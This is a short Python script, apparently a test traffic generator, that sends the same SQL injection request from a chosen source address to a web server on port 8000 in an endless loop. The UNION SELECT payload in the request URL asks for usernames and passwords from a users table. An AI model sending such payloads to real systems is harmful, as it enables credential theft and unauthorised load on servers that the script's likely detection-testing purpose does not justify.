"""SQL injections from one address to a web site, over and over."""

import http.client
import sys
import time

while True:
    try:
        web = http.client.HTTPConnection(
            sys.argv[2], 8000, timeout=0.3, source_address=(sys.argv[1], 0)
        )
        web.request("GET", "/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20")
        web.getresponse().read()
    except OSError:
        pass
    time.sleep(0.02)
